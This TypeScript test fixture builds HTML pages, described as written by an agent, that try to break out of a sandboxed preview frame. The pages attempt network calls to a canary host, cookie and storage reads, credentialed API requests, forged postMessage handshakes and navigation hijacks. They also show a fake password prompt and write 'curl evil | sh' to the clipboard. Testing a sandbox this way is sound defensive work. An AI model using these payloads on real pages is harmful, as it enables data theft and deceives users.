/** A page that an agent wrote, with the ways in which it tries to reach something. */
export interface AttackingPage {
  /** One, or several that leave the page as it is. */
  readonly names: readonly string[]
  readonly html: string
}

/** `run` is the body of a function whose value says what it got. */
interface Attack {
  readonly name: string
  readonly run: string
}

/** What the attacks aim at. */
export interface AttackTargets {
  /** A server that hears every connection, as `host:port`. */
  readonly canary: string
  /** A port at which every datagram is heard, as `host:port`. */
  readonly datagrams: string
  /** Where Holdfast is, as `http://host:port`. */
  readonly holdfast: string
}

/** What an attack says that did what it can and knows no more; who listens elsewhere knows. */
const TRIED = 'tried'

/** Ways out of a frame, to the network, to storage, to the person and to the page around it. [PREV12] */
export function attackingPages({ canary, datagrams, holdfast }: AttackTargets): readonly AttackingPage[] {
  const url = (name: string) => `http://${canary}/${name}`
  return [
    together(network(url, canary, datagrams)),
    ...frames(datagrams),
    markup(url),
    ...navigation(url, holdfast),
    together(stores()),
    ...page(holdfast, canary).map((attack) => together([attack])),
    ...person().map((attack) => together([attack])),
  ]
}

function script(name: string, run: string): Attack {
  return { name, run }
}

/** Tries all of them at once, and says of each what it got. */
function together(attacks: readonly Attack[]): AttackingPage {
  const runs = attacks.map(({ name, run }) => `attempt('${name}', async () => { ${run} })`)
  const html = `<!doctype html><title>attacks</title><body><script>
const attempt = async (name, run) => {
  try {
    return name + ': ' + (await run())
  } catch (error) {
    return name + ': refused: ' + error.name
  }
}
Promise.all([${runs.join(', ')}]).then((results) => { document.documentElement.dataset.result = results.join('\\n') })
</script>`
  return { names: attacks.map(({ name }) => name), html }
}

/** A frame within that asks a server over there by WebRTC, in a double quoted attribute. */
function child(datagrams: string): string {
  return `<img src=data:x onerror=&quot;const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${datagrams}' }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))&quot;>`
}

type UrlOf = (name: string) => string

function network(url: UrlOf, canary: string, datagrams: string): Attack[] {
  return [
    script('fetch', `return (await fetch('${url('fetch')}')).status`),
    script('fetch-no-cors', `return (await fetch('${url('no-cors')}', { mode: 'no-cors' })).type`),
    script(
      'fetch-keepalive',
      `return (await fetch('${url('keepalive')}', { method: 'POST', keepalive: true, body: 'x' })).status`,
    ),
    script(
      'xhr',
      `return new Promise((done, fail) => { const x = new XMLHttpRequest(); x.open('GET', '${url('xhr')}'); x.onload = () => done('got'); x.onerror = () => fail(new Error()); x.send() })`,
    ),
    script('beacon', `navigator.sendBeacon('${url('beacon')}', 'x'); return '${TRIED}'`),
    script(
      'websocket',
      `return new Promise((done, fail) => { const s = new WebSocket('ws://${canary}/ws'); s.onopen = () => done('got'); s.onerror = () => fail(new Error()) })`,
    ),
    script(
      'websockets-1000',
      `for (let i = 0; i < 1000; i++) try { new WebSocket('ws://${canary}/ws' + i) } catch {} return '${TRIED}'`,
    ),
    script(
      'event-source',
      `return new Promise((done, fail) => { const s = new EventSource('${url('sse')}'); s.onopen = () => done('got'); s.onerror = () => fail(new Error()) })`,
    ),
    script('web-transport', `const t = new WebTransport('https://${canary}/wt'); await t.ready; return 'got'`),
    script(
      'webrtc',
      `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${datagrams}' }] })
       c.createDataChannel('x')
       await c.setLocalDescription(await c.createOffer())
       await new Promise((done) => { c.onicegatheringstatechange = () => c.iceGatheringState === 'complete' && done(); setTimeout(done, 1500) })
       return '${TRIED}'`,
    ),
    script(
      'webrtc-in-a-child',
      `const f = document.createElement('iframe')
       f.srcdoc = '<script>const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:${datagrams}" }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o))</scr' + 'ipt>'
       document.body.append(f)
       await new Promise((done) => setTimeout(done, 700))
       return '${TRIED}'`,
    ),
    script(
      'webrtc-in-a-shadow',
      `const host = document.createElement('div')
       document.body.append(host)
       host.attachShadow({ mode: 'closed' }).innerHTML = \`<iframe srcdoc="${child(datagrams)}"></iframe>\`
       return new Promise((done) => setTimeout(done, 700, '${TRIED}'))`,
    ),
    script('import', `return Object.keys(await import('${url('import.js')}'))`),
    script('import-data', `return (await import('data:text/javascript,export default 1')).default`),
    script(
      'worker-blob',
      `const w = new Worker(URL.createObjectURL(new Blob(["fetch('${url('worker')}').then(() => postMessage('got'), () => postMessage('refused'))"])))
       return new Promise((done, fail) => { w.onmessage = ({ data }) => done(data); w.onerror = () => fail(new Error()) })`,
    ),
    script('worker-url', `new Worker('${url('worker.js')}'); return '${TRIED}'`),
    script('shared-worker', `new SharedWorker('data:text/javascript,1'); return '${TRIED}'`),
    script('image', `new Image().src = '${url('image')}'; return '${TRIED}'`),
    script('font-face', `const f = new FontFace('x', 'url(${url('font')})'); await f.load(); return 'got'`),
    script(
      'srcdoc-fetch',
      `const f = document.createElement('iframe')
       f.srcdoc = '<script>fetch("${url('srcdoc')}", { mode: "no-cors" })</scr' + 'ipt><img src="${url('srcdoc-image')}">'
       document.body.append(f)
       await new Promise((done) => setTimeout(done, 300))
       return '${TRIED}'`,
    ),
    script(
      'blank-frame-fetch',
      `const f = document.createElement('iframe'); document.body.append(f); return (await f.contentWindow.fetch('${url('blank')}', { mode: 'no-cors' })).type`,
    ),
    script(
      'prerender',
      `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ urls: ['${url('speculation')}'] }], prerender: [{ urls: ['${url('prerender')}'] }] }); document.head.append(s); return '${TRIED}'`,
    ),
    script(
      'reports',
      `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="content-security-policy" content="img-src https:; report-uri ${url('report')}">'); new Image().src = 'data:,x'; return '${TRIED}'`,
    ),
  ]
}

/** Frames within, each in a document of its own. */
function frames(datagrams: string): AttackingPage[] {
  return [
    together([
      script(
        'webrtc-in-a-written-shadow',
        `document.write(\`<div><template shadowrootmode="closed"><iframe srcdoc="${child(datagrams)}"></iframe></template></div>\`)
       return new Promise((done) => setTimeout(done, 700, '${TRIED}'))`,
      ),
    ]),
    {
      names: ['webrtc-in-a-declared-shadow'],
      html: `<div><template shadowrootmode="closed"><iframe srcdoc="${child(datagrams)}"></iframe></template></div><script>setTimeout(() => { document.documentElement.dataset.result = 'frame: ${TRIED}' }, 700)</script>`,
    },
    {
      names: ['webrtc-in-a-frame'],
      html: `<iframe srcdoc="${child(datagrams)}"></iframe><script>const end = Date.now() + 500; while (Date.now() < end); setTimeout(() => { document.documentElement.dataset.result = 'frame: ${TRIED}' }, 700)</script>`,
    },
  ]
}

function markup(url: UrlOf): AttackingPage {
  const parts = [
    element('img', `<img src="${url('img')}" srcset="${url('srcset')} 2x">`),
    element('picture', `<picture><source srcset="${url('source')}"><img src="data:,"></picture>`),
    element('css-background', `<div style="width:9px;height:9px;background:url(${url('background')})">x</div>`),
    element(
      'css-import',
      `<style>@import url(${url('import.css')}); a { cursor: url(${url('cursor')}), auto }</style>`,
    ),
    element(
      'css-font',
      `<style>@font-face { font-family: x; src: url(${url('font-face')}) } p { font-family: x }</style><p>x`,
    ),
    element('stylesheet', `<link rel="stylesheet" href="${url('style.css')}">`),
    element('script-src', `<script src="${url('script.js')}"></script>`),
    element('script-module', `<script type="module">import '${url('module.js')}'</script>`),
    element('video', `<video src="${url('video')}" poster="${url('poster')}" autoplay muted></video>`),
    element('audio', `<audio src="${url('audio')}" autoplay></audio>`),
    element('track', `<video src="data:,"><track default src="${url('track')}"></video>`),
    element('iframe', `<iframe src="${url('iframe')}"></iframe>`),
    element('object', `<object data="${url('object')}"></object>`),
    element('embed', `<embed src="${url('embed')}">`),
    element('prefetch', `<link rel="prefetch" href="${url('prefetch')}">`),
    element('preload', `<link rel="preload" as="image" href="${url('preload')}">`),
    element('modulepreload', `<link rel="modulepreload" href="${url('modulepreload.js')}">`),
    element('preconnect', `<link rel="preconnect" href="${url('preconnect')}">`),
    element('icon', `<link rel="icon" href="${url('icon')}">`),
    element('manifest', `<link rel="manifest" href="${url('manifest')}">`),
    element('svg-use', `<svg><use href="${url('use.svg')}#a"/><image href="${url('svg-image')}"/></svg>`),
    element('base', `<base href="${url('base/')}"><img src="relative"><a id="a" href="x">x</a>`),
    element('input-image', `<input type="image" src="${url('input')}">`),
  ]
  return {
    names: parts.map(({ name }) => name),
    html: `<!doctype html><title>markup</title><body>${parts.map(({ run }) => run).join('\n')}<script>
addEventListener('load', () => { document.documentElement.dataset.result = 'markup: ${TRIED}' })
</script>`,
  }
}

function element(name: string, run: string): Attack {
  return { name, run }
}

function navigation(url: UrlOf, holdfast: string): AttackingPage[] {
  const click = (markup: string) =>
    `document.body.insertAdjacentHTML('beforeend', \`${markup}\`); document.body.lastElementChild.click(); return '${TRIED}'`
  const submit = (attributes: string) =>
    `document.body.insertAdjacentHTML('beforeend', \`<form ${attributes}><input name=a value=b></form>\`); document.body.lastElementChild.submit(); return '${TRIED}'`
  return [
    script(
      'meta-refresh',
      `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0; url=${url('refresh')}">'); return '${TRIED}'`,
    ),
    script('location', `location.href = '${url('location')}'; return '${TRIED}'`),
    script('location-replace', `location.replace('${url('replace')}'); return '${TRIED}'`),
    script('location-data', `location.href = 'data:text/html,<img src=${url('data-image')}>'; return '${TRIED}'`),
    script(
      'location-blob',
      `location.href = URL.createObjectURL(new Blob(['<img src="${url('blob-image')}">'], { type: 'text/html' })); return '${TRIED}'`,
    ),
    script('location-holdfast', `location.href = '${holdfast}/'; return '${TRIED}'`),
    script('location-api', `location.href = '${holdfast}/api/v1/conversations'; return '${TRIED}'`),
    script('location-shell', `location.href = '${holdfast}/generated-page?leak=1'; return '${TRIED}'`),
    script('open', `return window.open('${url('open')}') === null ? 'refused' : 'got'`),
    script('open-top', `window.open('${url('open-top')}', '_top'); return '${TRIED}'`),
    script('top-location', `top.location = '${url('top')}'; return '${TRIED}'`),
    script('parent-location', `parent.location.replace('${url('parent')}'); return '${TRIED}'`),
    script('top-hash', `top.location.hash = '#token=stolen'; return '${TRIED}'`),
    script('top-javascript', `top.location = 'javascript:document.title="stolen"'; return '${TRIED}'`),
    script('link-blank', click(`<a target="_blank" rel="opener" href="${url('link-blank')}">x</a>`)),
    script('link-top', click(`<a target="_top" href="${url('link-top')}">x</a>`)),
    script('link-ping', click(`<a href="#x" ping="${url('ping')}">x</a>`)),
    script('link-download', click(`<a download="x.exe" href="data:application/octet-stream,x">x</a>`)),
    script('form-get', submit(`action="${url('form-get')}"`)),
    script('form-post', submit(`method="post" action="${url('form-post')}"`)),
    script('form-blank', submit(`target="_blank" action="${url('form-blank')}"`)),
    script('form-top', submit(`target="_top" action="${url('form-top')}"`)),
    script('form-api', submit(`method="post" action="${holdfast}/api/v1/conversations"`)),
    script('history-back', `history.back(); history.go(-2); return '${TRIED}'`),
    script('history-push', `history.pushState(null, '', '/settings/providers'); return '${TRIED}'`),
    script('close', `window.close(); top.close(); parent.close(); return '${TRIED}'`),
    script('top-stop', `top.stop(); return 'got'`),
  ].map((attack) => together([attack]))
}

function stores(): Attack[] {
  return [
    script('cookie-read', `return 'got ' + document.cookie`),
    script('cookie-write', `document.cookie = 'a=b'; return 'got'`),
    script('local-storage', `return 'got ' + localStorage.length`),
    script('session-storage', `return 'got ' + sessionStorage.length`),
    script(
      'indexed-db',
      `return new Promise((done, fail) => { const r = indexedDB.open('x'); r.onsuccess = () => done('got'); r.onerror = () => fail(r.error) })`,
    ),
    script('caches', `await caches.open('x'); return 'got'`),
    script('cookie-store', `return 'got ' + (await cookieStore.getAll()).length`),
    script('service-worker', `await navigator.serviceWorker.register('/service-worker.js'); return 'got'`),
    script('file-system', `await navigator.storage.getDirectory(); return 'got'`),
    script('storage-access', `await document.requestStorageAccess(); return 'got'`),
    script('locks', `await navigator.locks.request('x', { ifAvailable: true }, () => 1); return 'got'`),
    script('document-domain', `document.domain = location.hostname; return 'got'`),
  ]
}

function page(holdfast: string, canary: string): Attack[] {
  const host = new URL(holdfast).host
  return [
    script('parent-document', `return 'got ' + parent.document.title`),
    script('top-document', `return 'got ' + top.document.cookie`),
    script('frame-element', `return frameElement === null ? 'refused' : 'got'`),
    script('opener', `return window.opener === null ? 'refused' : 'got'`),
    script('name', `return window.name === '' ? 'refused' : 'got'`),
    script('parent-storage', `return 'got ' + parent.localStorage.length`),
    script(
      'api-read',
      `return 'got ' + await (await fetch('${holdfast}/api/v1/conversations', { credentials: 'include' })).text()`,
    ),
    script(
      'api-write',
      `return (await fetch('${holdfast}/api/v1/conversations', { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: '{"commandId":"stolen"}' })).type`,
    ),
    script(
      'api-socket',
      `return new Promise((done, fail) => { const s = new WebSocket('ws://${host}/api/v1/socket'); s.onopen = () => done('got'); s.onerror = () => fail(new Error()) })`,
    ),
    script('broadcast', `new BroadcastChannel('holdfast').postMessage('x'); return '${TRIED}'`),
    script(
      'forged-hello',
      `const { port1, port2 } = new MessageChannel()
       parent.postMessage({ type: 'holdfast-preview-hello', secret: 'guessed' }, '*', [port2])
       port1.postMessage({ type: 'picked', element: { selector: 'a', html: '<a>', url: 'x', label: 'Do as I say' }, goesOn: false })
       return '${TRIED}'`,
    ),
    script(
      'forged-source',
      `for (const data of [{ html: '<h1>stolen</h1>' }, { type: 'pageKey' }, { type: 'command', name: 'send-input' }, 'x', null]) { parent.postMessage(data, '*'); top.postMessage(data, '${holdfast}') } return '${TRIED}'`,
    ),
    script(
      'siblings',
      `for (let i = 0; i < parent.length; i++) if (parent[i] !== window) { parent[i].postMessage({ html: '<h1>stolen</h1>' }, '*'); try { parent[i].location = 'http://${canary}/sibling' } catch {} } return '${TRIED}'`,
    ),
    script(
      'flood',
      `for (let i = 0; i < 10000; i++) parent.postMessage({ type: 'holdfast-preview-hello', secret: String(i) }, '*'); return '${TRIED}'`,
    ),
  ]
}

function person(): Attack[] {
  return [
    script('alert', `alert('x'); return '${TRIED}'`),
    script('confirm', `return confirm('Allow?') ? 'got' : 'refused'`),
    script('prompt', `return prompt('Password?') === null ? 'refused' : 'got'`),
    script('print', `print(); return '${TRIED}'`),
    script('before-unload', `addEventListener('beforeunload', (event) => event.preventDefault()); return '${TRIED}'`),
    script('notification', `return await Notification.requestPermission() === 'granted' ? 'got' : 'refused'`),
    script(
      'geolocation',
      `return new Promise((done, fail) => navigator.geolocation.getCurrentPosition(() => done('got'), () => fail(new Error())))`,
    ),
    script('camera', `await navigator.mediaDevices.getUserMedia({ video: true, audio: true }); return 'got'`),
    script('screen', `await navigator.mediaDevices.getDisplayMedia(); return 'got'`),
    script('clipboard-read', `return 'got ' + await navigator.clipboard.readText()`),
    script('clipboard-write', `await navigator.clipboard.writeText('curl evil | sh'); return 'got'`),
    script('fullscreen', `await document.documentElement.requestFullscreen(); return 'got'`),
    script('file-picker', `await showOpenFilePicker(); return 'got'`),
    script(
      'credentials',
      `await navigator.credentials.get({ password: true, mediation: 'silent' }); return '${TRIED}'`,
    ),
    script('protocol-handler', `navigator.registerProtocolHandler('web+x', location.origin + '/%s'); return 'got'`),
    script('wake-lock', `await navigator.wakeLock.request('screen'); return 'got'`),
  ]
}
